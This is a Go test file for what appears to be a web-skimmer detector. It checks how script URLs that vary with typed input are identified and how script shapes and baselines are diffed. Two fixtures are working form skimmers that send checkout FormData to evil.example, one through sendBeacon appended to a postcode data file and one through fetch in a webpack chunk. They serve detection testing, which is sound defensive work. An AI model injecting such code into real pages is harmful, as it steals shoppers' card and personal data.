package inventory

import (
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/check/observation"
	"github.com/skimwatch/skimwatch/internal/origin"
)

// A postcode lookup's data file (the yubinbango layout: one JSONP file per
// three-digit prefix). Its content differs per prefix; its code does not.
const (
	postcodeTable100 = `$yubin({"1000001":[13,"千代田区","千代田",""],"1000002":[13,"千代田区","皇居外苑",""]});`
	postcodeTable456 = `$yubin({"4560001":[23,"名古屋市熱田区","三本松町",""],"4560002":[23,"名古屋市熱田区","旗屋",""],"4560003":[23,"名古屋市熱田区","波寄町",""]});`
	// The same table with a skimmer appended: what a compromised lookup
	// origin would serve.
	postcodeTable456Skim = postcodeTable456 + `document.querySelector("form").addEventListener("submit",function(){navigator.sendBeacon("https://evil.example/c",new FormData(this))});`
)

func typed(postcode string) *observation.Probe {
	return &observation.Probe{Values: map[string]string{
		observation.FieldPostcode:   postcode,
		observation.FieldCardNumber: "4111 1100 0000 0057",
		observation.FieldPhone:      "09012345678",
		observation.FieldEmail:      "taro.chk7q2@check.example",
		observation.FieldName:       "Chk7q2 Taro",
	}}
}

func lookupScript(url, src string, afterInput bool) observation.Script {
	return observation.Script{URL: url, Kind: observation.ScriptExternal, DocumentURL: "http://127.0.0.1:1/checkout",
		SHA256: Fingerprint(src) + "raw", Fingerprint: Fingerprint(src), Shape: ScriptShape(src), Source: src, Length: len(src), AfterInput: afterInput}
}

func probed(probe *observation.Probe, scripts ...observation.Script) *observation.Observation {
	o := obs(scripts, nil, nil, nil)
	o.Probe = probe
	return o
}

func TestInputDependentIdentity(t *testing.T) {
	values := typed("100-0001").Values
	tests := []struct {
		name, url, want string
		ok              bool
	}{
		{"a postcode prefix in the file name is input", "https://postal.example/data/100.js", "https://postal.example/data/" + InputPlaceholder + ".js", true},
		{"the whole postcode in the path is input", "https://postal.example/lookup/100-0001/addr.js", "https://postal.example/lookup/" + InputPlaceholder + "-" + InputPlaceholder + "/addr.js", true},
		{"a card's issuer prefix in the path is input", "https://bin.example/v1/411111.js", "https://bin.example/v1/" + InputPlaceholder + ".js", true},
		{"a word of the typed email is input", "https://mx.example/check/check.js", "https://mx.example/" + InputPlaceholder + "/" + InputPlaceholder + ".js", true},
		{"digits from the middle of a typed value are not input", "https://cdn.example/v/345/app.js", "", false},
		{"a path with nothing typed in it is not input", "https://cdn.example/js/app.min.js", "", false},
		{"two-character runs are never input", "https://cdn.example/10/a.js", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := InputDependentIdentity(tt.url, values)
			if ok != tt.ok || got != tt.want {
				t.Errorf("InputDependentIdentity(%q) = %q, %v; want %q, %v", tt.url, got, ok, tt.want, tt.ok)
			}
		})
	}
}

func TestScriptShape(t *testing.T) {
	tests := []struct {
		name string
		a, b string
		same bool
	}{
		{"two data tables of one lookup have one shape", postcodeTable100, postcodeTable456, true},
		{"a table with code appended has another shape", postcodeTable456, postcodeTable456Skim, false},
		{"comments and string contents do not change the shape", `/* v1 */ f("a", 'b\'s') // x`, `f("zz","yy")`, true},
		{"code inside a template literal is code", "f(`${1}`)", "f(`${fetch(1)}`)", false},
		{"a new identifier changes the shape", `f(1)`, `f(g(1))`, false},
		{"a quoted identifier-like word is data, not code", `$yubin({"fetch":[1]})`, `$yubin({"x":[1]})`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ScriptShape(tt.a) == ScriptShape(tt.b); got != tt.same {
				t.Errorf("same shape = %v, want %v\n a: %q\n b: %q", got, tt.same, tt.a, tt.b)
			}
		})
	}
}

// TestDiffTellsInputDependentURLsFromNewScripts is the rule of docs/CHECK.md
// ("A URL that varies with input"): the baseline is taken with one honey
// postcode, the recheck types another.
func TestDiffTellsInputDependentURLsFromNewScripts(t *testing.T) {
	base := FromObservation(probed(typed("100-0001"),
		lookupScript("https://postal.example/data/100.js", postcodeTable100, true)))

	tests := []struct {
		name     string
		recheck  *observation.Observation
		want     []string // change kind + " " + subject
		wantNone bool
	}{
		{
			name: "the lookup's file for another typed prefix is the same script",
			recheck: probed(typed("456-0001"),
				lookupScript("https://postal.example/data/456.js?t=9", postcodeTable456, true)),
			wantNone: true,
		},
		{
			name: "a genuinely new script loaded after input is still new",
			recheck: probed(typed("456-0001"),
				lookupScript("https://postal.example/data/456.js", postcodeTable456, true),
				lookupScript("https://evil.example/js/jquery.min.js", `new Image().src="x"`, true)),
			want: []string{ChangeScriptNew + " https://evil.example/js/jquery.min.js"},
		},
		{
			name: "an input-dependent URL on an origin never approved is a new script",
			recheck: probed(typed("456-0001"),
				lookupScript("https://postal.example/data/456.js", postcodeTable456, true),
				lookupScript("https://evil.example/data/456.js", postcodeTable456, true)),
			want: []string{ChangeScriptNew + " https://evil.example/data/" + InputPlaceholder + ".js"},
		},
		{
			name: "the lookup's file with code appended is a changed script",
			recheck: probed(typed("456-0001"),
				lookupScript("https://postal.example/data/456.js", postcodeTable456Skim, true)),
			want: []string{ChangeScriptChanged + " https://postal.example/data/" + InputPlaceholder + ".js"},
		},
		{
			name: "the same path loaded before any input is not input-dependent, so it is new",
			recheck: probed(typed("456-0001"),
				lookupScript("https://postal.example/data/456.js", postcodeTable456, false)),
			want: []string{ChangeScriptNew + " https://postal.example/data/456.js"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, c := range Diff(base, tt.recheck) {
				got = append(got, c.Kind+" "+c.Subject)
			}
			if tt.wantNone && len(got) > 0 {
				t.Fatalf("changes %v, want none", got)
			}
			if !tt.wantNone && !slices.Equal(got, tt.want) {
				t.Fatalf("changes %v, want %v", got, tt.want)
			}
		})
	}
}

func TestMergedBaselineKeepsOneEntryPerInputDependentScript(t *testing.T) {
	testNow := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	b := New(testNow)
	for _, pc := range []string{"100-0001", "456-0001"} {
		src := postcodeTable100
		if strings.HasPrefix(pc, "456") {
			src = postcodeTable456
		}
		o := probed(typed(pc), lookupScript("https://postal.example/data/"+pc[:3]+".js", src, true))
		b.Merge(FromObservation(o), testNow)
	}
	p := b.Page("http://127.0.0.1:1/checkout")
	if len(p.Scripts) != 1 {
		t.Fatalf("%d script entries, want one for the lookup: %+v", len(p.Scripts), p.Scripts)
	}
	if got := p.Scripts[0]; got.Identity != "https://postal.example/data/"+InputPlaceholder+".js" || len(got.Fingerprints) != 1 {
		t.Errorf("entry %+v, want the template with one shape", got)
	}
}

func FuzzInputDependentIdentity(f *testing.F) {
	f.Add("https://postal.example/data/100.js", "100-0001")
	f.Add("https://h/%31%30%30/x.js?q=1#f", "100")
	f.Add("http://[::1]:8080/a-b_c/ÄÖ/1234567.js", "1234567")
	f.Fuzz(func(t *testing.T, rawURL, value string) {
		id, ok := InputDependentIdentity(rawURL, map[string]string{observation.FieldPostcode: value})
		if !ok {
			if id != "" {
				t.Fatalf("not input-dependent but identity %q", id)
			}
			return
		}
		if !strings.Contains(id, InputPlaceholder) {
			t.Fatalf("identity %q has no placeholder", id)
		}
		if o := origin.Of(rawURL); !strings.HasPrefix(id, o+"/") && id != o {
			t.Fatalf("identity %q left the origin %q", id, o)
		}
	})
}

func FuzzScriptShape(f *testing.F) {
	f.Add(postcodeTable456Skim)
	f.Add("'unterminated \\")
	f.Add("/* open comment")
	f.Add("a // b\n\"c\\\"d\" `${e}`")
	f.Fuzz(func(t *testing.T, src string) {
		if got := ScriptShape(src); len(got) != 64 {
			t.Fatalf("shape %q is not a SHA-256", got)
		}
		// Comments never change the shape.
		if ScriptShape(src) != ScriptShape("/* c */"+src) {
			t.Fatalf("a leading comment changed the shape of %q", src)
		}
	})
}

// TestDiffIsStableWhenAPathMatchesTypedInputByChance covers the other side
// of the rule: a lazily loaded chunk with a numeric name (webpack's
// /static/js/185.js) matches a typed postcode prefix in about one check in a
// hundred. Whether it matched when the baseline was taken or matches now, it
// must read as the same script, and a new file on such a path must still be
// judged on its content.
func TestDiffIsStableWhenAPathMatchesTypedInputByChance(t *testing.T) {
	const chunk = `(self.webpackChunk=self.webpackChunk||[]).push([[185],{185:function(e,t,n){n.r(t);t.validate=function(v){return /^\d{7}$/.test(v)}}}]);`
	const otherChunk = `(self.webpackChunk=self.webpackChunk||[]).push([[186],{186:function(e,t,n){n.r(t);document.forms[0].addEventListener("submit",function(){fetch("https://evil.example/c",{method:"POST",body:new FormData(this)})})}}]);`
	url := "https://shop.example/static/js/185.js"
	tests := []struct {
		name          string
		basePostcode  string
		checkPostcode string
		checkURL      string
		checkSrc      string
		want          []string
	}{
		{"a chunk that matched the typed prefix at baseline time is known when it does not now",
			"185-0001", "456-0001", url, chunk, nil},
		{"a chunk approved by its path is known when it matches the typed prefix now",
			"456-0001", "185-1234", url, chunk, nil},
		{"another file on a path approved by chance is judged on its content",
			"185-0001", "456-0001", "https://shop.example/static/js/186.js", otherChunk,
			[]string{ChangeScriptChanged + " https://shop.example/static/js/" + InputPlaceholder + ".js"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			base := FromObservation(probed(typed(tt.basePostcode), lookupScript(url, chunk, true)))
			var got []string
			for _, c := range Diff(base, probed(typed(tt.checkPostcode), lookupScript(tt.checkURL, tt.checkSrc, true))) {
				got = append(got, c.Kind+" "+c.Subject)
			}
			if !slices.Equal(got, tt.want) {
				t.Fatalf("changes %v, want %v", got, tt.want)
			}
		})
	}
}

// BenchmarkScriptShape measures the shape of a large real library (Vue's
// 173 KB production build), which every check now computes per script.
func BenchmarkScriptShape(b *testing.B) {
	src, err := os.ReadFile("../../lab/assets/vendor/vue/vue.global.prod.js")
	if err != nil {
		b.Skip(err)
	}
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		ScriptShape(string(src))
	}
}

func BenchmarkFingerprint(b *testing.B) {
	src, err := os.ReadFile("../../lab/assets/vendor/vue/vue.global.prod.js")
	if err != nil {
		b.Skip(err)
	}
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		Fingerprint(string(src))
	}
}
